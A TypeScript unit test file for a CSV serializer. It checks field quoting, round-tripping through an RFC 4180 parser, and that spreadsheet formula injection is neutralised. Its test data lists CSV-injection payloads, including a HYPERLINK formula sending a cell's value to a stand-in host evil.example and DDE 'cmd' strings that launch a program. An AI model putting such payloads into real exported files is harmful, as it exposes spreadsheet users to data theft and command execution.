import { expect } from "chai";
import { parse } from "csv-parse/sync";
import { toCsvRecord } from "../../src/schemas/csv.ts";

/** As another program reads it. */
const read = (record: string): string[] => parse(record, { record_delimiter: "\r\n" })[0] ?? [];

describe("A line of CSV", () => {
  it("is fields with commas between them, and ends with CR and LF", () => {
    expect(toCsvRecord(["a", 1, "b c"])).to.equal("a,1,b c\r\n");
  });

  it("comes back from a reader of RFC 4180 as it was, whatever is in its fields", () => {
    const fields = ['say "hi"', "a,b", "two\r\nlines", "ünï 世界 \u{1f4e8}", "'", " spaced ", "a=b", "1-2"];
    expect(read(toCsvRecord(fields))).to.deep.equal(fields);
  });

  it("tells an empty text from none", () => {
    expect(toCsvRecord([null, "", null])).to.equal(',"",\r\n');
  });

  it("leaves numbers as they are", () => {
    expect(toCsvRecord([-5, 0, 1e6])).to.equal("-5,0,1000000\r\n");
  });

  const formulas = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+49 30 123",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "  =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n+1",
    "\u00a0=1",
    "\ufeff@a",
    "＝1+1",
    "＋1",
    "－1",
    "＠a",
  ];
  for (const formula of formulas) {
    it(`is no formula to a spreadsheet: ${JSON.stringify(formula)}`, () => {
      const [field = ""] = read(toCsvRecord([formula]));
      expect(field).to.match(/^\s*'/);
      expect(field.replaceAll("'", "")).to.equal(formula.replaceAll("'", ""));
    });
  }

  it("is none either where a spreadsheet cuts at semicolons or tabs", () => {
    expect(read(toCsvRecord(["Sale;=cmd|' /C calc'!A0;\t @a;-1"]))[0]).to.equal("Sale;'=cmd|' /C calc'!A0;\t '@a;'-1");
  });

  it("costs no more than its length, whatever is in it", () => {
    const began = performance.now();
    for (const sign of ["\t", " ", ";", "; ", "\n", "="]) toCsvRecord([sign.repeat(200_000)]);
    expect(performance.now() - began).to.be.lessThan(5000);
  });
});
